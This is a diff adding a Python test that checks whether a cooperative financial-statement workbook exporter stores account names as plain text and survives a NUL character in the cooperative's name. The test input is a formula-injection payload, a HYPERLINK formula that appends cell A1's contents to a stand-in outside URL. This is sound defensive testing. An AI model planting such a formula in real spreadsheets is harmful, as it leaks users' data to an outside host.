@@ -5,9 +5,11 @@ lines wherever a test checks that the renderer prints the DTO's figures."""
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
 import io
 import re
+import zipfile
 
 import openpyxl
 import pypdf
@@ -317,3 +319,25 @@ def test_workbook_one_sheet_per_statement_with_numbers() -> None:
     assert equity_rows["Saldo per 31 Desember 2025"][4].value == 987_654_321
     only = openpyxl.load_workbook(io.BytesIO(statements_workbook(statements(), {"arus-kas"})))
     assert only.sheetnames == ["Arus Kas"]
+
+
+def test_workbook_writes_account_names_as_text_never_as_formulas() -> None:
+    """A cooperative names its own accounts: ``=HYPERLINK(...)`` must stay a name,
+    and a control character a workbook cannot hold must not break the export."""
+    injected = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
+    fs = statements()
+    lines = tuple(
+        dataclasses.replace(ln, name=injected) if ln.code == "1101" else ln
+        for ln in fs.balance_sheet.lines
+    )
+    header = dataclasses.replace(fs.header, coop_name="KSP\x00 Sejahtera")
+    fs = dataclasses.replace(
+        fs, header=header, balance_sheet=dataclasses.replace(fs.balance_sheet, lines=lines)
+    )
+    data = statements_workbook(fs, {"posisi-keuangan"})
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["Posisi Keuangan"]
+    assert sheet["A1"].value == "KSP Sejahtera"
+    cell = next(r[1] for r in sheet.iter_rows() if r[0].value == "1101")
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (injected, "s", True)
